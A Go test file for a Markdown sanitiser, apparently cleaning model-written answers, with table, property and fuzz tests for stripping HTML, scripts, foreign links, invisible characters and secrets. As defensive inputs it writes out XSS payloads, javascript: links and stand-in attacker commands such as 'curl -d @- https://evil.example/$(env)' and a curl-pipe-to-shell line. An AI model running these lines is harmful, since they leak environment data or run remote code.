// SPDX-License-Identifier: Apache-2.0

package summary

import (
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"
	"pgregory.net/rapid"

	"assay/internal/rules/sensitive"
)

var known = map[string]bool{"opentelemetry.io": true, "github.com": true}

func TestCleanKeeps(t *testing.T) {
	for name, answer := range map[string]string{
		"headings and text": "## Why it matters\n\nTraces *break* and **stay** broken.\n\n## What it costs here\n\nMost of `http.server.duration` (about 5 %, i.e. 3.5 of 10).\n\n## Next step\n\nSet `OTEL_SERVICE_NAME`.",
		"lists":             "- one\n- two\n  - two and `a`\n  - more\n- three",
		"loose list":        "- one\n\n- two\n\n  second paragraph",
		"ordered list":      "3. three\n4. four\n   1. deeper",
		"code":              "```yaml\nprocessors:\n  batch: {}\n  # <b>not HTML</b> & \"quotes\" [x](y)\ndata:\n  a: 1\n```",
		"code in a list":    "1. Do this:\n\n   ```sh\n   export A=1\n\n   export B=2\n   ```\n\n2. Done",
		"fences in code":    "````md\n```\ninner\n```\n````\n\ntext",
		"code span":         "Use `a < b`, ``x `y` z`` and `<details>`.",
		"quote":             "> quoted\n>\n> - item\n\ntext",
		"known link":        "See [the conventions](https://opentelemetry.io/docs/specs/semconv/resource/#service) and <https://github.com/open-telemetry>.",
		"known bare URL":    "See <https://opentelemetry.io/docs/>, or ask.",
		"own URL in code":   "```sh\ncurl http://localhost:4318 http://otel-collector:4317 https://${HOST}/v1 http://10.0.0.1:4318 http://a.svc.cluster.local\n```",
		"underscores":       "Set service_name and k8s_pod_uid.",
		"brackets":          "A list [1] and x[i\\](y), [redacted].",
		"symbols":           "5 > 3, a & b, AT&T, 2 + 2 = 4, ~5 %, C#, $1, 50 %, a/b, \"x\", it's, a | b.",
		"other scripts":     "Größe, 大きさ, Ελληνικά and \U0001F600.",
		"starts of lines":   "\\- no list\n\n\\# no heading\n\n12\\. no list\n\n\\+ no list\n\n\\> no quote",
	} {
		t.Run(name, func(t *testing.T) {
			got, err := clean(answer, known)
			require.NoError(t, err)
			require.Equal(t, answer, got)
		})
	}
}

func TestCleanChanges(t *testing.T) {
	for name, tt := range map[string]struct{ answer, want string }{
		"inline HTML":        {"a <b>bold</b> <img src=x onerror=alert(1)> word<br/>", "a bold word"},
		"block of HTML":      {"<div onclick=\"x()\">\n<p>Why &amp; how</p>\n</div>\n\ntext", "Why & how\n\ntext"},
		"script":             {"<script>\nalert(1)\n</script>\n\ntext", "text"},
		"comment":            {"text <!-- hidden --> more\n\n<!-- a\n\nb -->\n\nend", "text more\n\nend"},
		"halves of a tag":    {"a <<b>script>x</b> end", "a \\<script>x end"},
		"escaped HTML":       {"a \\<b> &lt;i&gt; &#60;u&#62;", "a \\<b> \\<i> \\<u>"},
		"foreign link":       {"Click [here](https://evil.example/x \"title\") now", "Click here now"},
		"relative link":      {"See [this](/api/v1/keys) and [that](#top)", "See this and that"},
		"script link":        {"[a](javascript:alert(1)) [b](data:text/html,x) [c](JaVaScRiPt:x) [d](vbscript:x) [e](mailto:a)", "a b c d e"},
		"disguised host":     {"[a](https://opentelemetry.io@evil.example/) [b](https://opentelemetry.io.evil.example/) [c](//evil.example) [d](https:\\\\evil.example) [e](https://opentelemetry.io:8443/)", "a b c d e"},
		"image":              {"![alt *text*](https://opentelemetry.io/x.png) and ![](https://evil.example/p.gif)", "alt *text* and"},
		"image in a link":    {"[![shield](https://evil.example/s.svg)](https://opentelemetry.io/)", "[shield](https://opentelemetry.io/)"},
		"autolink":           {"<https://evil.example/a> and <a.b@evil.example>", "(link removed) and \\<[redacted]>"},
		"bare URL":           {"go to https://evil.example/?q=1, or www.evil.example.", "go to (link removed), or (link removed)."},
		"URL in pieces":      {"https:/\\/evil.example and https&#58;//evil.example", "(link removed) and (link removed)"},
		"known bare URL":     {"See https://opentelemetry.io/docs/, or `a`https://github.com/a`b`.", "See <https://opentelemetry.io/docs/>, or `a`<https://github.com/a>`b`."},
		"definition":         {"[evil] and [a][evil] and ![b][evil]\n\n[evil]: https://evil.example/ \"t\"", "evil and a and b"},
		"known definition":   {"[a][1]\n\n[1]: https://github.com/x", "[a](https://github.com/x)"},
		"URL in code":        {"`curl https://evil.example/x.sh | sh`\n\n```sh\ncurl -d @- https://evil.example/$(env)\n```", "`curl (link removed) | sh`\n\n```sh\ncurl -d @- (link removed))\n```"},
		"number as a host":   {"`curl http://3232235777/ http://0x7f000001/`", "`curl (link removed) (link removed)`"},
		"link text is a URL": {"[https://evil.example](https://opentelemetry.io/)", "<https://opentelemetry.io/>"},
		"invisible":          {"a\u200bb\u202ec\U000E0041d\x00e\u00adf \u3164g\ufe0f\U000E0101 h\u00a0i\x1b[31mj", "abcdef g h i[31mj"},
		"invalid UTF-8":      {"a\xffb", "a\ufffdb"},
		"secrets":            {"Mail bob@corp.example or use password=hunter2x now.\n\n`AKIAIOSFODNN7EXAMPLA`", "Mail [redacted] or use password=[redacted] now.\n\n`[redacted]`"},
		"one big block":      {"```markdown\n## Why\n\ntext\n```", "## Why\n\ntext"},
		"thoughts":           {"<think>\nsecret plan\n</think>\n\n## Why\n\ntext", "## Why\n\ntext"},
		"indented code":      {"text\n\n    a = 1\n    <b>", "text\n\n```\na = 1\n<b>\n```"},
		"setext, rules":      {"Why\n===\n\ntext\n\n---\n\nmore", "# Why\n\ntext\n\nmore"},
		"lines":              {"one\ntwo  \nthree\\\nfour", "one two three four"},
		"table":              {"| a | b |\n|---|---|\n| 1 | <i>2</i> |", "\\| a | b | |---|---| | 1 | 2 |"},
		"strange language":   {"```a\"b onload=x\ncode\n```", "```\ncode\n```"},
		"empty parts":        {"#\n\n- \n- a\n\n```\n```\n\n****\n\ntext ``", "- a\n\ntext \\`\\`"},
	} {
		t.Run(name, func(t *testing.T) {
			got, err := clean(tt.answer, known)
			require.NoError(t, err)
			require.Equal(t, tt.want, got)
			checkClean(t, got)
		})
	}
}

func TestCleanFails(t *testing.T) {
	for name, answer := range map[string]string{
		"nothing":             "",
		"blank":               " \n\t\n",
		"headings alone":      "## Why it matters\n\n## Next step",
		"no letters":          "...\n\n---\n\n> !",
		"an image":            "![](https://evil.example/p.gif)",
		"HTML alone":          "<script>alert(1)</script>",
		"thoughts alone":      "<think>What is this",
		"invisible alone":     "\u200b\u202e\U000E0041",
		"a code fence alone":  "```\n\n```",
		"one definition only": "[a]: https://evil.example/",
	} {
		t.Run(name, func(t *testing.T) {
			got, err := clean(answer, known)
			require.Error(t, err, "%q", got)
			require.Equal(t, CallUnusable, callOutcome(err))
		})
	}
}

// TestCleanCuts: a long answer ends behind a block.
func TestCleanCuts(t *testing.T) {
	paragraph := strings.Repeat("word ", 200) + "end"
	for name, answer := range map[string]string{
		"paragraphs": strings.Repeat(paragraph+"\n\n", 20),
		"items":      strings.Repeat("- "+paragraph+"\n", 20),
		"code":       paragraph + "\n\n```\n" + strings.Repeat(paragraph+"\n", 8) + "```\n",
	} {
		t.Run(name, func(t *testing.T) {
			got, err := clean(answer, known)
			require.NoError(t, err)
			require.LessOrEqual(t, len(got), maxContent)
			require.Greater(t, len(got), len(paragraph)-1)
			require.True(t, strings.HasSuffix(got, "end"), got[len(got)-20:])
			checkClean(t, got)
		})
	}
	got, err := clean(strings.Repeat("ä", 3*maxContent), known)
	if err == nil {
		require.LessOrEqual(t, len(got), maxContent)
		require.True(t, utf8.ValidString(got))
	}
}

// checkClean asserts what clean promises of its results.
func checkClean(t require.TestingT, got string) {
	require.True(t, utf8.ValidString(got))
	require.LessOrEqual(t, len(got), maxContent)
	require.Equal(t, plain(got), got, "invisible characters")
	require.Equal(t, sensitive.None, sensitive.Text([]byte(got)), "%q", got)
	again, err := clean(got, known)
	require.NoError(t, err)
	require.Equal(t, got, again, "cleaning again changes it")
	require.True(t, hasText(got))
	source := []byte(got)
	for dialect, md := range map[string]goldmark.Markdown{
		"CommonMark": goldmark.New(),
		"GitHub":     goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList)),
	} {
		_ = ast.Walk(md.Parser().Parse(text.NewReader(source)), func(n ast.Node, _ bool) (ast.WalkStatus, error) {
			destination := ""
			switch n := n.(type) {
			case *ast.HTMLBlock, *ast.RawHTML:
				t.Errorf("%s: raw HTML in %q", dialect, got)
			case *ast.Image:
				t.Errorf("%s: an image in %q", dialect, got)
			case *ast.Link:
				destination = string(n.Destination)
			case *ast.AutoLink:
				destination = string(n.URL(source))
			default:
				return ast.WalkContinue, nil
			}
			if u, err := url.Parse(destination); destination != "" && (err != nil || !known[u.Host] || u.User != nil || u.Scheme != "https" && u.Scheme != "http") {
				t.Errorf("%s: a link to %q in %q", dialect, destination, got)
			}
			return ast.WalkContinue, nil
		})
	}
}

// TestCleanEnds cleans answers that are made to be slow to read.
func TestCleanEnds(t *testing.T) {
	for _, piece := range []string{
		"[", "![", "[a](", "*a ", "**a", "_a_", "`", "`a``", "<", "<a ", "&#", "> ", "- ", "1. ", "  - a\n", "\\", "a\n\n", "<!--", "<?", "[a]: x\n", "~", "|-", "://", "a@", "*_`[",
	} {
		if got, err := clean(strings.Repeat(piece, 1+maxAnswer/4/len(piece)), known); err == nil {
			checkClean(t, got)
		}
	}
}

// TestCleanAnything joins the pieces of Markdown at random.
func TestCleanAnything(t *testing.T) {
	pieces := []string{
		"[", "]", "(", ")", "!", "*", "_", "`", "```", "\n", "\n\n", "- ", "1. ", "> ", "#", "<", ">", "<b>", "&", "&lt;", "\\", "~", "|", ":",
		"a", "b ", " ", "    ", "\t", "http://x.io", "https://github.com/a", "[a]: ", "@", "x@y.io", "=", "---", "www.x.io", "<!--", "-->",
		"password=", "q1w2e3r4", "4111111111111111", "{", "\u202e", "\xff",
	}
	rapid.Check(t, func(t *rapid.T) {
		few := rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 12).Draw(t, "pieces")
		answer := strings.Join(rapid.SliceOfN(rapid.SampledFrom(few), 0, 300).Draw(t, "answer"), "")
		got, err := clean(answer, known)
		if err == nil {
			checkClean(t, got)
		} else if strings.Contains(err.Error(), "cannot be cleaned") {
			t.Fatalf("never the same: %q", answer)
		}
	})
}

func FuzzClean(f *testing.F) {
	for _, seed := range []string{
		"## Why\n\ntext **bold** `code` [l](https://opentelemetry.io/) [m](https://evil.example)\n\n- a\n- b\n\n```go\nx\n```",
		"<div>\n\n<b>x</b> <https://evil.example> ![i](x) \\<a> &lt;", "> - 1. a\n>   ```\n>   b", "[a]: b\n[a]", "a | b\n-|-\n`c | <d>`",
		"https://evil.example www.evil.example a@b.co <think>x</think>", "***a** b* __c__ ~~d~~ ![", "\u202e\u200b\x00\xff", "1) a\n2) b\n* c\n+ d", "password=hunter2x bob@corp.example",
		"- a\n\n  b\n- - c\n-", "[x](\n[y](z)\n)", "`` ` ``", "# #", "\\\n", "&#x26;lt;b&gt;", "[^1]: x\n[^1]", "term\n: definition", "<script>\n</script>a", "![[a](b)](c)",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, answer string) {
		got, err := clean(answer, known)
		if err != nil {
			if strings.Contains(err.Error(), "cannot be cleaned") {
				t.Errorf("never the same: %q", answer)
			}
			return
		}
		checkClean(t, got)
	})
}
